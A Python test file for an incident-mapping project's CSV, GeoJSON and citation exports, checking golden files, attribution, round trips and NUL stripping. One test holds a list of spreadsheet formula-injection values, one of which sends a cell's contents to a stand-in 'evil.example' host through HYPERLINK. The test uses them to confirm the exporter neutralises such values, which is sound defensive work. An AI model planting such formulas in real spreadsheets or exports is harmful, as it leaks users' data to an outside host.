"""Exports of the filtered incidents: golden CSV and GeoJSON, attribution, round trips.

Regenerate the golden files after an intended change with UPDATE_GOLDEN=1 pytest tests/test_export.py
and read the diff before committing it.
"""

import csv
import io
import json
import os
import re
import zipfile
from datetime import date
from pathlib import Path

import pandas as pd
import pytest

from geo import export
from geo.filters import IncidentFilter, apply_filter
from geo.loading import read_geojson
from geo.near import distance_km
from geo.schema import INCIDENTS
from geo.validation import validate

DATA = Path(__file__).parent / "data"
GOLDEN_CSV = DATA / "golden" / "export_small.csv"
GOLDEN_GEOJSON = DATA / "golden" / "export_small.geojson"
# Keeps E-01, E-02, E-03, E-05 and E-06 (which overlaps the range); drops E-04 (22 Jan 2024).
GOLDEN_FILTER = IncidentFilter(date_from=date(2023, 7, 1), date_to=date(2024, 1, 20))


@pytest.fixture(scope="module")
def filtered(small):
    return apply_filter(small, GOLDEN_FILTER)


def _check_golden(path: Path, text: str) -> None:
    if os.environ.get("UPDATE_GOLDEN"):
        path.write_text(text, encoding="utf-8")
    assert text == path.read_text(encoding="utf-8")


def test_csv_matches_golden(filtered):
    _check_golden(GOLDEN_CSV, export.to_csv(filtered, GOLDEN_FILTER))


def test_geojson_matches_golden(filtered):
    _check_golden(GOLDEN_GEOJSON, export.to_geojson(filtered, GOLDEN_FILTER))


def test_csv_opens_with_the_header_first(filtered):
    text = export.to_csv(filtered, GOLDEN_FILTER)
    assert text.startswith("id,title,category,")  # issue 8: no attribution rows above the header
    df = pd.read_csv(io.StringIO(text))
    assert list(df["id"]) == ["E-01", "E-02", "E-03", "E-05", "E-06"]
    bomb = df.set_index("id").loc["E-02"]
    # quoted text keeps its '#', commas, quotes and line breaks
    assert bomb["title"] == 'Bomb at "Central Square", Zahedan'
    assert bomb["description"] == 'A bomb exploded.\nSecond line with a #hashtag, a comma and "quotes".'
    assert bomb["source_urls"] == "https://three.example/news#part-2"
    # a cell that a spreadsheet would run as a formula is neutralised
    assert bomb["disputed"] == "'=1+1 is how one source counts"
    first = df.set_index("id").loc["E-01"]
    assert first["actors"] == "Frontier Corps; Militant group A"
    assert first["source_outlets"] == "Outlet One; Outlet Two"
    assert first["source_urls"] == "https://one.example/a1; http://two.example/b?x=1&y=2"
    assert (first["latitude"], first["longitude"]) == (27.1, 61.5)
    assert pd.isna(df.set_index("id").loc["E-06", "latitude"])
    assert df["fatalities_best"].tolist()[:2] == [5, 10]


def unzip(data: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return {name: zf.read(name).decode("utf-8") for name in zf.namelist()}


def test_csv_zip_carries_the_attribution_beside_the_csv(filtered):
    files = unzip(export.to_csv_zip(filtered, GOLDEN_FILTER))
    assert set(files) == {"pkir-incidents.csv", "CITATION.txt"}
    assert files["pkir-incidents.csv"] == export.to_csv(filtered, GOLDEN_FILTER)
    block = files["CITATION.txt"]
    assert "filters: dates 2023-07-01 to 2024-01-20" in block
    assert "data_date: 2024-02-15" in block
    assert "licences:\n  * CC BY 4.0\n  * CC0 1.0" in block
    assert "datasets:\n  * Test fixture" in block
    assert "Outlet Five" in block
    assert "http" not in block  # the citation is URL-free
    assert "records: 5" in block


FORMULAS = ('=HYPERLINK("http://evil.example/?x="&A1,"Open")', "+1+2", "-3+4", "@SUM(A1:A9)", "a,=1+1", "b;\t=2")


def test_attribution_cannot_carry_a_formula(filtered):
    """Issue 9 item 5: dataset, licence and outlet values reach the attribution; split at , ; tab
    or | (as a spreadsheet's import may) no piece starts a formula."""
    hostile = filtered.copy()
    hostile["dataset"] = [FORMULAS[i % len(FORMULAS)] for i in range(len(hostile))]
    hostile["licence"] = [FORMULAS[(i + 1) % len(FORMULAS)] for i in range(len(hostile))]
    hostile["sources"] = [[{"outlet": f, "url": "https://example.org", "date": None}] for f in FORMULAS[: len(hostile)]]
    files = unzip(export.to_csv_zip(hostile, GOLDEN_FILTER))
    for line in files["CITATION.txt"].splitlines():
        for piece in re.split(r"[,;\t|]", line):
            assert not piece.strip().startswith(("=", "+", "-", "@")), line
    for row in csv.reader(io.StringIO(files["pkir-incidents.csv"])):
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row
    assert "'=HYPERLINK(" in files["CITATION.txt"]  # shown, not dropped


def test_attribution_lists_only_what_is_exported(small):
    only_irn = IncidentFilter(countries=("IRN",), keyword="bomb")
    attr = export.attribution(apply_filter(small, only_irn), only_irn)
    assert attr["records"] == 1
    assert attr["source_outlets"] == ["Outlet Three"]
    assert attr["licences"] == ["CC0 1.0"] and attr["data_date"] == "2024-02-01"
    assert attr["filters"] == "countries: Iran; keyword “bomb”"
    assert attr["dashboard"] in attr["citation"] and "://" not in attr["citation"]


def test_geojson_has_attribution_and_round_trips(filtered, tmp_path):
    text = export.to_geojson(filtered, GOLDEN_FILTER)
    doc = json.loads(text)
    assert doc["type"] == "FeatureCollection"
    assert doc["attribution"] == export.attribution(filtered, GOLDEN_FILTER)
    assert [f["properties"]["id"] for f in doc["features"]] == ["E-01", "E-02", "E-03", "E-05", "E-06"]
    assert doc["features"][4]["geometry"] is None
    assert doc["features"][0]["properties"]["sources"][1] == {
        "outlet": "Outlet Two",
        "url": "http://two.example/b?x=1&y=2",
        "date": None,
    }
    path = tmp_path / "export.geojson"
    path.write_text(text, encoding="utf-8")
    back, report = validate(read_geojson(path), INCIDENTS, path.name)
    assert not report.rejected
    assert list(back["id"]) == list(filtered["id"])
    assert back["fatalities_best"].tolist() == filtered["fatalities_best"].tolist()
    assert back.geometry.equals(filtered.geometry.reset_index(drop=True))


def test_export_of_nothing_still_carries_attribution(small):
    none = IncidentFilter(keyword="no such word anywhere")
    kept = apply_filter(small, none)
    files = unzip(export.to_csv_zip(kept, none))
    assert "records: 0" in files["CITATION.txt"] and "data_date: unknown" in files["CITATION.txt"]
    assert pd.read_csv(io.StringIO(files["pkir-incidents.csv"])).empty
    assert json.loads(export.to_geojson(kept, none))["features"] == []


def test_an_export_never_writes_a_nul_and_imports_back(small, tmp_path):
    """Rows kept before NULs were refused may hold one: the export leaves it out, so the file imports back."""
    from geo.importers import import_file

    gdf = small.copy()
    gdf["title"] = gdf["title"].astype(object)
    gdf.at[gdf.index[0], "title"] = "Attack\x00 near the border"
    gdf.at[gdf.index[1], "actors"] = ["Police", "Jaish\x00al-Adl"]
    gdf.at[gdf.index[2], "dataset"] = "curated\x00set"
    text = export.to_csv(gdf)
    citation = export.citation_text(export.attribution(gdf, IncidentFilter()))
    geojson = export.to_geojson(gdf, IncidentFilter(keyword="a\x00b"))
    for written in (text, citation, geojson):
        assert "\x00" not in written and "\\u0000" not in written
    assert "Attack near the border" in text and "JaishalAdl" not in text and "Jaishal-Adl" in text
    assert json.loads(geojson)["features"][0]["properties"]["title"] == "Attack near the border"
    path = tmp_path / "export.csv"
    path.write_text(text, encoding="utf-8")
    back = import_file(path)
    assert not back.rejected and sorted(back.incidents["id"]) == sorted(gdf["id"])
    assert "Attack near the border" in set(back.incidents["title"])


def test_exports_carry_the_distances_and_name_near_in_the_attribution(small):
    near = IncidentFilter(near="crossing:X1", near_km=200)
    kept = apply_filter(small, near)
    assert 0 < len(kept) < len(small)
    rows = list(csv.DictReader(io.StringIO(export.to_csv(kept, near))))
    want = distance_km(kept.geometry, "crossing:X1")
    assert [float(r["km_to_target"]) for r in rows] == [round(float(v), 1) for v in want]
    assert all(float(r["km_to_target"]) <= 200 for r in rows)
    assert all(r["km_to_border"] for r in rows)
    files = unzip(export.to_csv_zip(kept, near))
    assert "within 200 km of crossing Taftan – Mirjaveh" in files["CITATION.txt"]
    doc = json.loads(export.to_geojson(kept, near))
    assert "within 200 km of crossing Taftan – Mirjaveh" in doc["attribution"]["citation"]
    assert [f["properties"]["km_to_target"] for f in doc["features"]] == [float(r["km_to_target"]) for r in rows]


def test_an_export_without_near_has_no_target_column_and_no_distance_without_a_point(filtered):
    rows = list(csv.DictReader(io.StringIO(export.to_csv(filtered, GOLDEN_FILTER))))
    assert "km_to_target" not in rows[0]
    assert {r["id"]: r["km_to_border"] for r in rows}["E-06"] == ""  # no point, no distance


def test_exports_say_how_duplicates_across_datasets_were_treated(small):
    note = "Probable duplicates hidden: 3 records of an event another dataset already shows left out."
    f = IncidentFilter()
    with zipfile.ZipFile(io.BytesIO(export.to_csv_zip(small, f, note))) as zf:
        citation = zf.read(export.CITATION_NAME).decode("utf-8")
    assert f"duplicates: {note}" in citation and note in citation.split("citation:")[1]
    doc = json.loads(export.to_geojson(small, f, note))
    assert doc["attribution"]["duplicates"] == note and note in doc["attribution"]["citation"]
    assert "duplicates" not in json.loads(export.to_geojson(small, f))["attribution"]


def test_exports_carry_the_verification_grade_its_reason_and_who_claims():
    from geo.loading import load_layer

    shipped = load_layer("incidents")[0]
    flt = IncidentFilter(grades=("confirmed", "disputed"))
    chosen = apply_filter(shipped, flt)
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(export.to_csv(chosen, flt)))}
    assert {r["grade"] for r in rows.values()} == {"confirmed", "disputed"}
    a01 = rows["PKIR-A01"]
    assert (a01["grade"], a01["claimed_by"], a01["independent_sources"]) == (
        "confirmed",
        "Tehreek-e-Jihad Pakistan",
        "3",
    )
    assert a01["grade_reason"].startswith("Confirmed: an official account (ISPR)")
    assert rows["PKIR-C13"]["denied_by"] == "Iran"
    header = next(csv.reader(io.StringIO(export.to_csv(chosen, flt))))
    assert header.index("grade") == header.index("disputed") + 1
    doc = json.loads(export.to_geojson(chosen, flt))
    assert {f["properties"]["id"]: f["properties"]["grade"] for f in doc["features"]}["PKIR-C12"] == "disputed"
    assert "verification: confirmed, disputed" in doc["attribution"]["filters"]


def test_an_export_imports_back_with_its_grades(tmp_path):
    from geo.importers import import_file
    from geo.loading import load_layer

    shipped = load_layer("incidents")[0]
    (tmp_path / "x.csv").write_text(export.to_csv(shipped, IncidentFilter()), encoding="utf-8")
    (tmp_path / "x.geojson").write_text(export.to_geojson(shipped, IncidentFilter()), encoding="utf-8")
    want = shipped.set_index("id")[["grade", "claimed_by", "denied_by", "independent_sources"]]
    for name in ("x.csv", "x.geojson"):
        got = import_file(tmp_path / name).incidents.set_index("id").loc[want.index, want.columns]
        pd.testing.assert_frame_equal(got.astype(object), want.astype(object), check_names=False, obj=name)
